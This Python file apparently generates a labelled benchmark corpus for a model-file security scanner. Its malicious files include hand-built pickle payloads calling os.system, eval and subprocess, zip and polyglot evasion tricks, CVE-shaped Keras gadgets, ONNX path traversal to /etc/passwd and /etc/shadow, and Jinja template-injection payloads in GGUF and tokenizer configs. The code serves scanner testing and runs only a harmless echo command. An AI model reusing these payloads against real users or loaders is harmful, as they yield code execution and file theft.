"""The labelled corpus of benchmarks/differential.py: a malicious and a clean side for every
file class Custos knows, written by the real libraries where they are installed.

Each `write_<kind>(out)` writes its files into `out` and returns their `Sample`s. Kinds that
need a library run in a child interpreter (`python benchmarks/diffcorpus.py KIND OUT`, one JSON
object per line), so that the benchmark process never imports torch or Keras and a missing
library only costs that kind. Malicious payloads are built the way attackers build them:
an object whose `__reduce__` names `os.system` handed to `torch.save`, `joblib.dump`,
`np.save`..., or opcodes written by hand for the bypass classes. Pickling such an object only
*names* the function; nothing here ever loads, unpickles or runs a file it wrote.

The generators mirror the test suite's (tests/modelfile/picklegen.py, zips.py,
benign_corpus.py, test_*_scan.py) without importing tests/: the benchmark runs from any
working directory and keeps working when test helpers move.
"""

from __future__ import annotations

import io
import json
import os
import pickle
import struct
import sys
import zipfile
from dataclasses import asdict, dataclass
from pathlib import Path
from typing import Any

# The command every malicious payload would run: harmless if something ever did load one.
COMMAND = "echo custos-differential"


@dataclass(frozen=True)
class Sample:
    cls: str  # file class: one table per class
    name: str
    path: str
    malicious: bool
    what: str  # what a loader would do with it (malicious) or who wrote it (clean)


class Evil:
    """`pickle` writes `os.system(COMMAND)` for it: REDUCE of a global, as in the wild."""

    def __reduce__(self) -> tuple[Any, tuple[str]]:
        return (os.system, (COMMAND,))


class EvalEvil:
    """`builtins.eval` of an expression that imports os: the second most common payload."""

    def __reduce__(self) -> tuple[Any, tuple[str]]:
        return (eval, (f"__import__('os').system({COMMAND!r})",))


# -- opcode helpers (as tests/modelfile/picklegen.py) --------------------------------------

PROTO2, PROTO4 = b"\x80\x02", b"\x80\x04"
MARK, STOP, TUPLE, TUPLE1, TUPLE2 = b"(", b".", b"t", b"\x85", b"\x86"
REDUCE, BUILD, EMPTY_TUPLE, EMPTY_DICT, POP = b"R", b"b", b")", b"}", b"0"
STACK_GLOBAL, NEWOBJ_EX, OBJ, NONE = b"\x93", b"\x92", b"o", b"N"


def su(text: str) -> bytes:
    raw = text.encode("utf-8")
    return b"\x8c" + bytes([len(raw)]) + raw


def binbytes(data: bytes) -> bytes:
    return b"B" + struct.pack("<I", len(data)) + data


def glob(module: str, name: str) -> bytes:
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def sglob(module: str, name: str) -> bytes:
    return su(module) + su(name) + STACK_GLOBAL


def call(func: bytes, *args: bytes) -> bytes:
    return func + MARK + b"".join(args) + TUPLE + REDUCE


def p2(body: bytes) -> bytes:
    return PROTO2 + body + STOP


def p4(body: bytes) -> bytes:
    return PROTO4 + body + STOP


def frame(payload: bytes) -> bytes:
    return b"\x95" + struct.pack("<Q", len(payload)) + payload


EVIL_P0 = f"cos\nsystem\n(S'{COMMAND}'\ntR.".encode()
EVIL_P2 = p2(call(glob("os", "system"), su(COMMAND)))


def malicious_pickles() -> dict[str, tuple[bytes, str]]:
    """Hand-written bypass classes (name -> (bytes, what loading does))."""
    cmd = su(COMMAND)
    return {
        "reduce-os-system": (pickle.dumps(Evil(), protocol=4), "os.system via REDUCE"),
        "reduce-eval": (pickle.dumps(EvalEvil(), protocol=2), "builtins.eval via REDUCE"),
        "protocol0-global": (EVIL_P0, "os.system, protocol 0 text"),
        "posix-system": (p2(call(glob("posix", "system"), cmd)), "posix.system"),
        "subprocess-popen-newobj-ex": (
            p4(sglob("subprocess", "Popen") + su("id") + TUPLE1 + EMPTY_DICT + NEWOBJ_EX),
            "subprocess.Popen via NEWOBJ_EX",
        ),
        "exec-via-obj": (p2(MARK + glob("builtins", "exec") + su("print(1)") + OBJ), "exec/OBJ"),
        "eval-via-inst": (b"(S'1+1'\nibuiltins\neval\n.", "eval via INST"),
        "getattr-import-chain": (
            p4(
                sglob("builtins", "getattr")
                + call(sglob("builtins", "__import__"), su("os"))
                + su("system")
                + TUPLE2
                + REDUCE
                + cmd
                + TUPLE1
                + REDUCE
            ),
            "getattr(__import__('os'), 'system')(...)",
        ),
        "functools-partial": (
            p2(call(call(glob("functools", "partial"), glob("os", "system"), cmd))),
            "functools.partial(os.system, ...)()",
        ),
        "nested-pickle-loads": (
            p4(sglob("pickle", "loads") + binbytes(EVIL_P2) + TUPLE1 + REDUCE),
            "pickle.loads of an embedded pickle",
        ),
        "second-pickle-after-stop": (
            pickle.dumps({"ok": 1}, protocol=2) + EVIL_P2,
            "os.system in a second stacked pickle",
        ),
        "attribute-walk": (
            p4(sglob("site", "os.system") + cmd + TUPLE1 + REDUCE),
            "site.os.system by dotted name",
        ),
        "runpy-run-path": (
            p2(call(glob("runpy", "_run_code"), su("import os"), EMPTY_DICT)),
            "runpy",
        ),
        "torch-load-from-bytes": (
            p2(call(glob("torch.storage", "_load_from_bytes"), binbytes(EVIL_P2))),
            "torch.storage._load_from_bytes of an embedded pickle",
        ),
        "webbrowser-open": (
            p2(call(glob("webbrowser", "open"), su("http://127.0.0.1/"))),
            "open URL",
        ),
    }


def benign_pickles() -> dict[str, tuple[bytes, str]]:
    import collections

    data = {"a": [1, 2.5, "x", b"y", None, True], "b": (1, 2), "c": {3, 4}, "d": 10**30}
    cases = {
        f"plain-p{p}": (pickle.dumps(data, protocol=p), f"pickle protocol {p}") for p in range(6)
    }
    cases["ordered-dict"] = (
        pickle.dumps(collections.OrderedDict(x=[1, 2]), protocol=4),
        "collections.OrderedDict",
    )
    cases["stacked-two"] = (pickle.dumps([1]) + pickle.dumps({"k": "v"}), "two stacked pickles")
    return cases


def _write(out: Path, cls: str, name: str, data: bytes, malicious: bool, what: str) -> Sample:
    path = out / name
    path.write_bytes(data)
    return Sample(cls, name, str(path), malicious, what)


def write_pickle(out: Path, quick: bool = False) -> list[Sample]:
    bad = malicious_pickles()
    good = benign_pickles()
    if quick:  # a handful of each shape, for the harness test
        bad = {k: bad[k] for k in ("reduce-os-system", "protocol0-global", "getattr-import-chain")}
        good = {k: good[k] for k in ("plain-p0", "plain-p4", "ordered-dict")}
    samples = [_write(out, "pickle", f"{k}.pkl", d, True, w) for k, (d, w) in bad.items()]
    samples += [_write(out, "pickle", f"{k}.pkl", d, False, w) for k, (d, w) in good.items()]
    return samples


# -- zip tricks (as tests/modelfile/zips.py) on a PyTorch-style archive ---------------------


def make_zip(members: list[tuple[str, bytes]], method: int = zipfile.ZIP_STORED) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", method) as archive:
        for name, data in members:
            archive.writestr(name, data)
    return buf.getvalue()


def torch_layout(data_pkl: bytes, method: int = zipfile.ZIP_STORED) -> bytes:
    return make_zip(
        [
            ("archive/data.pkl", data_pkl),
            ("archive/byteorder", b"little"),
            ("archive/data/0", b"\0" * 64),
            ("archive/version", b"3\n"),
            ("archive/.data/serialization_id", b"1234567890"),
        ],
        method,
    )


def _header_offsets(data: bytes, name: bytes) -> tuple[int, int]:
    local = data.find(b"PK\x03\x04")
    while data[local + 30 : local + 30 + struct.unpack_from("<H", data, local + 26)[0]] != name:
        local = data.find(b"PK\x03\x04", local + 4)
    central = data.find(b"PK\x01\x02")
    while (
        data[central + 46 : central + 46 + struct.unpack_from("<H", data, central + 28)[0]] != name
    ):
        central = data.find(b"PK\x01\x02", central + 4)
    return local, central


def _set_flag(data: bytes, name: bytes, bits: int) -> bytes:
    local, central = _header_offsets(data, name)
    out = bytearray(data)
    for at in (local + 6, central + 8):
        struct.pack_into("<H", out, at, struct.unpack_from("<H", out, at)[0] | bits)
    return bytes(out)


def zip_tricks(evil: bytes) -> dict[str, tuple[bytes, str]]:
    """PyTorch-style archives carrying `evil` as data.pkl, each with a trick torch.load
    tolerates and zipfile-based scanners may not."""
    plain = torch_layout(evil)
    crc = bytearray(plain)
    at = plain.find(COMMAND.encode())
    crc[at] ^= 0x20  # the payload changes case: the CRC no longer matches, torch does not check
    tricks = {
        "zip-evil-data-pkl": (plain, "os.system in data.pkl"),
        "zip-deflated": (torch_layout(evil, zipfile.ZIP_DEFLATED), "deflated data.pkl"),
        "zip-encrypted-flag": (_set_flag(plain, b"archive/data.pkl", 1), "encrypted bit set"),
        "zip-crc-mismatch": (bytes(crc), "wrong CRC-32 on data.pkl"),
        "zip-prepended": (b"\0" * 64 + plain, "64 bytes before the archive"),
        "zip-pickle-in-other-member": (
            make_zip(
                [
                    ("archive/data.pkl", pickle.dumps({"w": 1}, protocol=2)),
                    ("archive/version", b"3\n"),
                    ("archive/extra/weights.bin", evil),
                ]
            ),
            "os.system in a member named weights.bin",
        ),
        "zip-pickle-then-zip-polyglot": (
            evil + torch_layout(pickle.dumps({"w": 1}, protocol=2)),
            "a pickle with a benign zip appended: zipfile sees the zip, torch.load the pickle",
        ),
    }
    return tricks


def write_zip(out: Path, quick: bool = False) -> list[Sample]:
    """Hand-built PyTorch-style zips (stdlib only): the container tricks."""
    tricks = zip_tricks(EVIL_P2)
    if quick:
        tricks = {k: tricks[k] for k in ("zip-evil-data-pkl", "zip-encrypted-flag")}
    samples = [_write(out, "zip", f"{k}.pt", d, True, w) for k, (d, w) in tricks.items()]
    benign = p2(glob("collections", "OrderedDict") + EMPTY_TUPLE + REDUCE)
    samples.append(_write(out, "zip", "zip-benign.pt", torch_layout(benign), False, "hand-built"))
    return samples


def write_text_and_tar(out: Path) -> list[Sample]:
    """Chat templates outside GGUF (transformers renders them from tokenizer_config.json and
    chat_template.jinja) and tar archives (tarfile, as tools that ship models in tars write
    them): stdlib only."""
    import tarfile

    samples: list[Sample] = []
    evil = EVIL_TEMPLATES["evil-template-globals.gguf"]
    for name, template, malicious in (
        ("tokenizer_config.json", LLAMA2_TEMPLATE, False),
        ("evil-tokenizer_config.json", evil, True),
    ):
        body = {"tokenizer_class": "PreTrainedTokenizerFast", "chat_template": template}
        what = "Jinja SSTI in chat_template" if malicious else "Llama 2 chat_template"
        samples.append(_write(out, "template", name, json.dumps(body).encode(), malicious, what))
    samples.append(
        _write(
            out,
            "template",
            "chat_template.jinja",
            LLAMA2_TEMPLATE.encode(),
            False,
            "Llama 2 template file",
        )
    )
    samples.append(
        _write(
            out,
            "template",
            "evil-chat_template.jinja",
            evil.encode(),
            True,
            "Jinja SSTI in a template file",
        )
    )
    for name, payload, malicious in (
        ("model.tar", pickle.dumps({"w": [1.0, 2.0]}, protocol=4), False),
        ("evil-model.tar", EVIL_P2, True),
        ("evil-model.tar.gz", pickle.dumps(Evil(), protocol=4), True),
    ):
        path = out / name
        with tarfile.open(path, "w:gz" if name.endswith(".gz") else "w") as archive:
            info = tarfile.TarInfo("model/weights.pkl")
            info.size = len(payload)
            archive.addfile(info, io.BytesIO(payload))
        what = "os.system in a tar member" if malicious else "tarfile of a pickle"
        samples.append(Sample("tar", name, str(path), malicious, what))
    return samples


# -- library writers (run in a child interpreter) ------------------------------------------


def write_torch(out: Path) -> list[Sample]:
    import torch
    from torch import nn

    torch.manual_seed(0)
    model = nn.Sequential(nn.Linear(6, 8), nn.ReLU(), nn.Linear(8, 4))
    sd = model.state_dict()
    samples: list[Sample] = []

    def save(name: str, obj: object, malicious: bool, what: str, **kw: Any) -> None:
        path = out / name
        torch.save(obj, path, **kw)
        samples.append(Sample("pytorch", name, str(path), malicious, what))

    save("state-dict.pt", sd, False, "torch.save state_dict")
    save(
        "state-dict-legacy.pt",
        sd,
        False,
        "torch.save legacy format",
        _use_new_zipfile_serialization=False,
    )
    opt = torch.optim.Adam(model.parameters())
    save(
        "checkpoint.pt",
        {"model": sd, "optim": opt.state_dict(), "epoch": 3},
        False,
        "checkpoint with optimizer state",
    )
    save("module.pt", model, False, "whole nn.Module (torch.save)")
    save("evil-state-dict.pt", {"model": sd, "hook": Evil()}, True, "os.system in a checkpoint")
    save(
        "evil-legacy.pt",
        {"model": sd, "hook": Evil()},
        True,
        "os.system, legacy format",
        _use_new_zipfile_serialization=False,
    )
    save("evil-eval.pt", {"model": sd, "hook": EvalEvil()}, True, "builtins.eval in a checkpoint")
    path = out / "scripted.pt"
    torch.jit.save(torch.jit.script(model.eval()), path)
    # torch.load hands TorchScript to torch.jit.load; the file itself is what users publish
    samples.append(Sample("pytorch", "scripted.pt", str(path), False, "torch.jit.save"))
    return samples


def write_numpy(out: Path) -> list[Sample]:
    import numpy as np

    samples: list[Sample] = []

    def save(name: str, data: bytes, malicious: bool, what: str) -> None:
        samples.append(_write(out, "numpy", name, data, malicious, what))

    def npy(array: Any, **kw: Any) -> bytes:
        buf = io.BytesIO()
        np.save(buf, array, **kw)
        return buf.getvalue()

    save("float.npy", npy(np.arange(64.0).reshape(8, 8)), False, "np.save float64")
    save(
        "structured.npy",
        npy(np.zeros(4, dtype=[("a", "<f4"), ("b", "<i8")])),
        False,
        "np.save structured dtype",
    )
    buf = io.BytesIO()
    np.savez(buf, w=np.ones((4, 4), dtype=np.float32), b=np.zeros(4))
    save("arrays.npz", buf.getvalue(), False, "np.savez")
    objects = np.array([1, "x", None], dtype=object)
    save(
        "object-clean.npy",
        npy(objects, allow_pickle=True),
        False,
        "object array of int/str/None (np.load needs allow_pickle)",
    )
    evil = np.empty(1, dtype=object)
    evil[0] = Evil()
    save("evil-object.npy", npy(evil, allow_pickle=True), True, "os.system in an object array")
    buf = io.BytesIO()
    np.savez(buf, w=np.ones(4), evil=evil)
    save("evil-member.npz", buf.getvalue(), True, "object array with os.system inside an .npz")
    return samples


def write_joblib(out: Path) -> list[Sample]:
    import joblib
    import numpy as np
    from sklearn.ensemble import RandomForestClassifier
    from sklearn.linear_model import LogisticRegression
    from sklearn.pipeline import make_pipeline
    from sklearn.preprocessing import StandardScaler

    rng = np.random.default_rng(0)
    x = rng.normal(size=(40, 3))
    y = (x[:, 0] > 0).astype(int)
    pipe = make_pipeline(StandardScaler(), LogisticRegression()).fit(x, y)
    forest = RandomForestClassifier(n_estimators=3, max_depth=2, random_state=0).fit(x, y)
    samples: list[Sample] = []

    def dump(name: str, obj: object, malicious: bool, what: str, **kw: Any) -> None:
        path = out / name
        joblib.dump(obj, path, **kw)
        samples.append(Sample("joblib", name, str(path), malicious, what))

    dump("pipeline.joblib", pipe, False, "joblib.dump sklearn pipeline")
    dump("forest.joblib", forest, False, "joblib.dump RandomForest")
    dump("forest-z3.joblib", forest, False, "joblib.dump compress=3", compress=3)
    path = out / "pipeline.pkl"
    path.write_bytes(pickle.dumps(pipe, protocol=5))
    samples.append(Sample("joblib", "pipeline.pkl", str(path), False, "pickle.dumps pipeline"))
    dump("evil-pipeline.joblib", {"model": pipe, "hook": Evil()}, True, "os.system beside a model")
    dump(
        "evil-z3.joblib",
        {"model": forest, "hook": Evil()},
        True,
        "os.system, zlib-compressed",
        compress=3,
    )
    # Code after an array: joblib writes array bytes inside the stream; REDUCE after them
    buf = io.BytesIO()
    joblib.dump([np.arange(64.0), "tail"], buf)
    data = buf.getvalue()
    tail = data[:-1] + b"0" + EVIL_P0[:-1] + b"0."
    samples.append(
        _write(
            out,
            "joblib",
            "evil-after-array.joblib",
            tail,
            True,
            "os.system after a joblib array's raw bytes",
        )
    )
    return samples


def write_keras(out: Path) -> list[Sample]:
    os.environ["KERAS_BACKEND"] = "torch"
    import warnings

    warnings.simplefilter("ignore")
    import keras

    keras.utils.set_random_seed(0)
    samples: list[Sample] = []

    def model(extra: list[Any] | None = None) -> Any:
        net = keras.Sequential([keras.Input((4,)), keras.layers.Dense(3), *(extra or [])])
        net.compile(optimizer="adam", loss="mse")
        return net

    for suffix in (".keras", ".h5"):
        path = out / f"dense{suffix}"
        model().save(path)
        samples.append(Sample("keras", path.name, str(path), False, f"model.save {suffix}"))
        path = out / f"evil-lambda{suffix}"
        # Keras marshals the lambda's bytecode into the config (CVE-2024-3660's vector)
        model([keras.layers.Lambda(lambda t: t * 2)]).save(path)
        samples.append(Sample("keras", path.name, str(path), True, "Lambda layer bytecode"))
    path = out / "dense.weights.h5"
    model().save_weights(path)
    samples.append(Sample("keras", path.name, str(path), False, "model.save_weights"))

    # A real .keras file whose config.json gains a gadget (CVE-2025-8747, CVE-2025-1550 shapes)
    with zipfile.ZipFile(out / "dense.keras") as archive:
        members = {info.filename: archive.read(info) for info in archive.infolist()}
    config = json.loads(members["config.json"])
    gadgets = {
        "evil-get-file.keras": (
            {
                "module": "keras.utils",
                "class_name": "function",
                "config": "get_file",
                "registered_name": "get_file",
            },
            "keras.utils.get_file gadget (CVE-2025-8747)",
        ),
        "evil-os-module.keras": (
            {
                "module": "os",
                "class_name": "function",
                "config": "system",
                "registered_name": "system",
            },
            "module 'os' imported by the loader (CVE-2025-1550)",
        ),
    }
    for name, (gadget, what) in gadgets.items():
        edited = json.loads(json.dumps(config))
        edited["config"]["layers"][-1]["config"]["activation"] = gadget
        members["config.json"] = json.dumps(edited).encode()
        samples.append(_write(out, "keras", name, make_zip(list(members.items())), True, what))
    return samples


def write_safetensors(out: Path) -> list[Sample]:
    import numpy as np
    from safetensors.numpy import save_file

    rng = np.random.default_rng(0)
    path = out / "model.safetensors"
    save_file(
        {"w": rng.normal(size=(8, 8)).astype(np.float32), "b": np.zeros(8)},
        path,
        metadata={"format": "np"},
    )
    samples = [Sample("safetensors", path.name, str(path), False, "safetensors.numpy")]
    samples.append(
        _write(
            out,
            "safetensors",
            "evil-pickle.safetensors",
            pickle.dumps(Evil(), protocol=4),
            True,
            "a pickle named .safetensors (loaders that go by content unpickle it)",
        )
    )
    return samples


def write_onnx(out: Path) -> list[Sample]:
    import numpy as np
    import onnx
    from onnx import TensorProto, helper, numpy_helper

    def graph_model(nodes: list[Any], inits: list[Any], opsets: list[Any]) -> Any:
        x = helper.make_tensor_value_info("x", TensorProto.FLOAT, ["batch", 4])
        y = helper.make_tensor_value_info("y", TensorProto.FLOAT, ["batch", 4])
        return helper.make_model(
            helper.make_graph(nodes, "g", [x], [y], inits), opset_imports=opsets
        )

    std = [helper.make_opsetid("", 17)]
    w = numpy_helper.from_array(np.ones((4, 4), dtype=np.float32), "W")
    samples: list[Sample] = []

    def save(name: str, model: Any, malicious: bool, what: str) -> None:
        path = out / name
        path.write_bytes(model.SerializeToString())
        samples.append(Sample("onnx", name, str(path), malicious, what))

    save(
        "tiny.onnx",
        graph_model([helper.make_node("MatMul", ["x", "W"], ["y"])], [w], std),
        False,
        "onnx.helper MatMul",
    )
    # onnxruntime's own contrib operators (com.microsoft), common in optimised exports
    fused = helper.make_node("FusedMatMul", ["x", "W"], ["y"], domain="com.microsoft", alpha=1.0)
    save(
        "ort-contrib.onnx",
        graph_model([fused], [w], [*std, helper.make_opsetid("com.microsoft", 1)]),
        False,
        "onnxruntime contrib op (com.microsoft FusedMatMul)",
    )
    for name, location in (
        ("evil-external-traversal.onnx", "../../../../etc/passwd"),
        ("evil-external-absolute.onnx", "/etc/shadow"),
    ):
        tensor = helper.make_tensor("W", TensorProto.FLOAT, [4, 4], [1.0] * 16)
        tensor.ClearField("float_data")
        tensor.data_location = TensorProto.EXTERNAL
        for key, value in (("location", location), ("offset", "0"), ("length", "64")):
            entry = tensor.external_data.add()
            entry.key, entry.value = key, value
        model = graph_model([helper.make_node("MatMul", ["x", "W"], ["y"])], [tensor], std)
        save(name, model, True, f"external data read from {location}")
    onnx.checker.check_model(graph_model([helper.make_node("MatMul", ["x", "W"], ["y"])], [w], std))
    return samples


LLAMA2_TEMPLATE = (
    "{% for message in messages %}{% if message['role'] == 'user' %}"
    "{{ bos_token + '[INST] ' + message['content'].strip() + ' [/INST]' }}"
    "{% elif message['role'] == 'assistant' %}"
    "{{ ' ' + message['content'].strip() + ' ' + eos_token }}"
    "{% endif %}{% endfor %}"
)
EVIL_TEMPLATES = {
    "evil-template-globals.gguf": (
        "{{ self.__init__.__globals__.__builtins__.__import__('os').popen('id').read() }}"
    ),
    "evil-template-cycler.gguf": "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "evil-template-concat.gguf": "{{ lipsum['__glo' ~ 'bals__']['os'].popen('id') }}",
}


def write_gguf(out: Path) -> list[Sample]:
    import numpy as np
    from gguf import GGUFWriter

    samples: list[Sample] = []
    templates = {"llama2.gguf": (LLAMA2_TEMPLATE, False)}
    templates.update({k: (v, True) for k, v in EVIL_TEMPLATES.items()})
    for name, (template, malicious) in templates.items():
        path = out / name
        writer = GGUFWriter(str(path), "llama")
        writer.add_name("tiny")
        writer.add_token_list(["<unk>", "<s>", "</s>", "a"])
        writer.add_chat_template(template)
        writer.add_tensor("token_embd.weight", np.ones((4, 8), dtype=np.float32))
        writer.write_header_to_file()
        writer.write_kv_data_to_file()
        writer.write_tensors_to_file()
        writer.close()
        what = (
            "Jinja chat-template injection (SSTI)" if malicious else "GGUFWriter, Llama 2 template"
        )
        samples.append(Sample("gguf", name, str(path), malicious, what))
    return samples


# Which kinds need which libraries (for the "not generated" note) and run in a child.
LIBRARY_KINDS = {
    "numpy": "numpy",
    "pytorch": "torch",
    "joblib": "scikit-learn, joblib",
    "keras": "keras (torch backend)",
    "safetensors": "safetensors, numpy",
    "onnx": "onnx",
    "gguf": "gguf",
}
WRITERS = {
    "numpy": write_numpy,
    "pytorch": write_torch,
    "joblib": write_joblib,
    "keras": write_keras,
    "safetensors": write_safetensors,
    "onnx": write_onnx,
    "gguf": write_gguf,
}


if __name__ == "__main__":
    kind, folder = sys.argv[1], Path(sys.argv[2])
    folder.mkdir(parents=True, exist_ok=True)
    for sample in WRITERS[kind](folder):
        print(json.dumps(asdict(sample)))
